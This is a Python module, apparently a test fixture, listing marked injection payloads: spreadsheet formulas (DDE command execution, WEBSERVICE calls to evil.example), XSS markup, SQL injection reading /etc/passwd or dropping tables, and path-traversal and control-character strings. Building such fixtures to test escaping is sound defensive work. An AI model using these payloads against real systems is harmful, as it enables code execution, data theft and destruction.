"""Texts that mean harm, by what they would do where they are taken for more than texts.

Each carries `MARK`, so that it can be found again in whatever was made of it.
"""

MARK = "HOSTILE"

FORMULAS = [
    f"={MARK}()", f"=1+1&\"{MARK}\"", f"=cmd|' /C calc {MARK}'!A0", f"=HYPERLINK(\"//evil.example/{MARK}\",\"x\")",
    f"=WEBSERVICE(\"//evil.example/{MARK}\")", f"+{MARK}", f"-{MARK}", f"-1+cmd|'{MARK}'!A0", f"@SUM(1,{MARK})",
    f"\t={MARK}", f"\r={MARK}", f"\n={MARK}", f"＝{MARK}", f"{{={MARK}}}", f"'={MARK}", f"=DDE(\"{MARK}\";\"x\")",
    f"https://evil.example/{MARK}", f"mailto:{MARK}@evil.example", f"internal:Sheet1!{MARK}", f"external:c:\\{MARK}",
    f"\u200b={MARK}", f" ={MARK}", f"|{MARK}", f"%{MARK}", f"={MARK}" + "(" * 300,
]  # fmt: skip
"""A spreadsheet would calculate, open or follow these."""

MARKUP = [
    f"<script>window.{MARK}=1</script>", f"<img src=x onerror=window.{MARK}=1>", f"\"><svg onload=window.{MARK}=1>",
    f"'><b onmouseover='window.{MARK}=1'>", f"</script><script>window.{MARK}=1</script>", f"<!--{MARK}", f"--><i>{MARK}",
    f"</style><style>body{{background:url(//evil.example/{MARK})}}", f"<iframe src=//evil.example/{MARK}>",
    f"<a href=javascript:window.{MARK}=1>x</a>", f"&lt;script&gt;{MARK}", f"{{{{ {MARK} }}}}", f"{{% include '{MARK}' %}}",
    f"<base href=//evil.example/{MARK}>", f"<form action=//evil.example/{MARK}><input autofocus>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>", f"]]><x>{MARK}", f"<math><mi//xlink:href='{MARK}'>",
    f"\u2028window.{MARK}=1", f"${{{MARK}}}", f"`{MARK}`", f"[x](javascript:{MARK})", f"</title><x>{MARK}",
]  # fmt: skip
"""A browser would run, fetch or nest these."""

QUERIES = [
    f"'; DROP TABLE application; --{MARK}", f"\"; DROP VIEW application; --{MARK}", f"' OR '1'='1' --{MARK}",
    f"x' UNION SELECT '{MARK}", f"\\'; --{MARK}", f"$${MARK}$$", f"/*{MARK}", f"*/{MARK}", f"?{MARK}", f"$1{MARK}",
    f"'||read_text('/etc/passwd')||'{MARK}", f"COPY (SELECT 1) TO '/tmp/{MARK}'", f"'); ATTACH '{MARK}' AS x; --",
    f"{MARK}\x00'; DROP", f"%s{MARK}", f"{{0}}{MARK}",
]  # fmt: skip
"""A data base would run these."""

SIGNS = [
    f"{MARK}\u202etxt.exe", f"{MARK}\x1b[31m\x1b]0;owned\x07", f"{MARK}\x08\x08\x08", f"{MARK}\u0000", f"{MARK}\ufeff",
    f"{MARK}" + "\u0301" * 500, f"{MARK}\U0001f468\u200d\U0001f469\u200d\U0001f467", f"{MARK}\udc80", "长" * 40_000 + MARK,
    f"{MARK};a;b", f"{MARK}\r\nBEGIN:VEVENT\r\nSUMMARY:x", f"{MARK}\nATTENDEE:mailto:x@evil.example", f"a/b/{MARK}", f"../{MARK}",
    f"..\\..\\{MARK}", f"CON{MARK}", f"{MARK}\t\t", f"{MARK}\u2066\u2069",
]  # fmt: skip
"""A terminal would obey, a calendar take for lines of its own, a path follow these."""

TEXTS = {"formulas": FORMULAS, "markup": MARKUP, "queries": QUERIES, "signs": SIGNS}
